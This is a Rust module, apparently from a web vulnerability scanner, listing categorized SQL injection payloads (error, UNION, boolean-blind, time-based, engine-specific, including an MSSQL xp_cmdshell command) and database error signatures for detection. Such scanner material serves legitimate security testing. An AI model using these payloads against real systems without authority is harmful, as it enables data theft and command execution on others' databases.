//! SQL injection payload tables.
//!
//! Static, categorized attack strings per detection family plus the error
//! signatures used to recognize raw database errors in response bodies.

/// Payloads that provoke a visible database error.
pub const ERROR_BASED: &[&str] = &[
    "'",
    "\"",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR 1=1--",
    "\" OR 1=1--",
    "' OR 'a'='a",
    "\" OR \"a\"=\"a",
    "') OR ('1'='1",
    "\") OR (\"1\"=\"1",
    "' OR '1'='1' --",
    "' OR '1'='1' /*",
    "' OR '1'='1' #",
    "admin'--",
    "admin'#",
    "admin'/*",
    "' or 1=1--",
    "' or 1=1#",
    "' or 1=1/*",
    "') or ('1'='1--",
    "') or ('1'='1#",
];

/// UNION SELECT variants with increasing column counts, plus ORDER BY probes.
pub const UNION_BASED: &[&str] = &[
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "' UNION SELECT NULL,NULL,NULL--",
    "' UNION SELECT NULL,NULL,NULL,NULL--",
    "' UNION SELECT NULL,NULL,NULL,NULL,NULL--",
    "' UNION ALL SELECT NULL--",
    "' UNION ALL SELECT NULL,NULL--",
    "' UNION ALL SELECT NULL,NULL,NULL--",
    "' UNION SELECT 1,2,3--",
    "' UNION SELECT 'a','b','c'--",
    "' UNION SELECT user(),database(),version()--",
    "' UNION SELECT @@version,NULL,NULL--",
    "' UNION SELECT table_name,NULL FROM information_schema.tables--",
    "' UNION SELECT column_name,NULL FROM information_schema.columns--",
    "1' ORDER BY 1--",
    "1' ORDER BY 2--",
    "1' ORDER BY 3--",
    "1' ORDER BY 4--",
    "1' ORDER BY 5--",
    "1' ORDER BY 10--",
];

/// Condition suffixes appended to the original parameter value. The first two
/// entries form the TRUE/FALSE pair used by the boolean-blind classifier.
pub const BOOLEAN_BASED: &[&str] = &[
    "' AND '1'='1",
    "' AND '1'='2",
    "' AND 1=1--",
    "' AND 1=2--",
    "' AND 'a'='a",
    "' AND 'a'='b",
    "1' AND '1'='1",
    "1' AND '1'='2",
    "1 AND 1=1",
    "1 AND 1=2",
    "' AND (SELECT 1)=1--",
    "' AND (SELECT 1)=2--",
    "' AND SUBSTRING(@@version,1,1)='5",
    "' AND SUBSTRING(@@version,1,1)='4",
    "' AND LENGTH(database())>0--",
    "' AND LENGTH(database())>100--",
];

/// Delay-inducing payloads, all tuned to a 5 second sleep.
pub const TIME_BASED: &[&str] = &[
    "'; WAITFOR DELAY '0:0:5'--",
    "'; SELECT SLEEP(5)--",
    "' AND SLEEP(5)--",
    "1' AND SLEEP(5)--",
    "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
    "'; WAITFOR DELAY '00:00:05'--",
    "1; WAITFOR DELAY '0:0:5'--",
    "' OR SLEEP(5)--",
    "\" OR SLEEP(5)--",
    "' AND IF(1=1,SLEEP(5),0)--",
    "' AND IF(1=2,SLEEP(5),0)--",
    "'; SELECT pg_sleep(5)--",
    "' AND pg_sleep(5)--",
];

pub const MYSQL_SPECIFIC: &[&str] = &[
    "' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--",
    "' AND UPDATEXML(1,CONCAT(0x7e,VERSION()),1)--",
    "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
    "' UNION SELECT user(),database(),version()--",
    "' OR '1'='1' LIMIT 1--",
];

pub const POSTGRESQL_SPECIFIC: &[&str] = &[
    "'; SELECT pg_sleep(5)--",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "' UNION SELECT NULL,version(),NULL--",
];

pub const MSSQL_SPECIFIC: &[&str] = &[
    "'; WAITFOR DELAY '0:0:5'--",
    "' AND 1=CONVERT(int,@@version)--",
    "' UNION SELECT NULL,@@version,NULL--",
    "'; EXEC xp_cmdshell('whoami')--",
];

pub const ORACLE_SPECIFIC: &[&str] = &[
    "' UNION SELECT NULL,banner FROM v$version--",
    "' AND 1=UTL_INADDR.GET_HOST_ADDRESS('x')--",
    "' || (SELECT banner FROM v$version WHERE rownum=1)--",
];

/// Substrings diagnostic of a raw SQL engine error leaking into the response.
/// Matched case-insensitively.
pub const ERROR_SIGNATURES: &[&str] = &[
    "SQL syntax",
    "mysql_fetch",
    "mysql_num_rows",
    "ORA-01",
    "PostgreSQL",
    "Warning: pg_",
    "valid MySQL result",
    "MySqlClient",
    "SQLException",
    "ODBC SQL Server Driver",
    "Microsoft OLE DB Provider for SQL Server",
    "Unclosed quotation mark",
    "quoted string not properly terminated",
    "Syntax error",
    "mysql_",
    "mysqli_",
    "pg_query",
    "ORA-",
    "DB2 SQL error",
    "SQLite",
    "SQLite3",
    "JET Database Engine",
    "Access Database Engine",
    "Microsoft Access Driver",
];

/// Database engines with dedicated payload subsets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DbFamily {
    MySql,
    PostgreSql,
    MsSql,
    Oracle,
}

/// Payloads targeting a specific database engine.
pub fn db_specific(family: DbFamily) -> &'static [&'static str] {
    match family {
        DbFamily::MySql => MYSQL_SPECIFIC,
        DbFamily::PostgreSql => POSTGRESQL_SPECIFIC,
        DbFamily::MsSql => MSSQL_SPECIFIC,
        DbFamily::Oracle => ORACLE_SPECIFIC,
    }
}

/// Bounded subset for quick scans.
pub fn basic_payloads() -> Vec<&'static str> {
    ERROR_BASED[..10]
        .iter()
        .chain(UNION_BASED[..5].iter())
        .chain(BOOLEAN_BASED[..6].iter())
        .copied()
        .collect()
}

/// Every SQLi payload across all families.
pub fn all_payloads() -> Vec<&'static str> {
    ERROR_BASED
        .iter()
        .chain(UNION_BASED)
        .chain(BOOLEAN_BASED)
        .chain(TIME_BASED)
        .chain(MYSQL_SPECIFIC)
        .chain(POSTGRESQL_SPECIFIC)
        .chain(MSSQL_SPECIFIC)
        .chain(ORACLE_SPECIFIC)
        .copied()
        .collect()
}

/// Check whether a response body contains any known SQL error signature.
pub fn contains_error_signature(body: &str) -> bool {
    let body_lower = body.to_lowercase();
    ERROR_SIGNATURES
        .iter()
        .any(|sig| body_lower.contains(&sig.to_lowercase()))
}
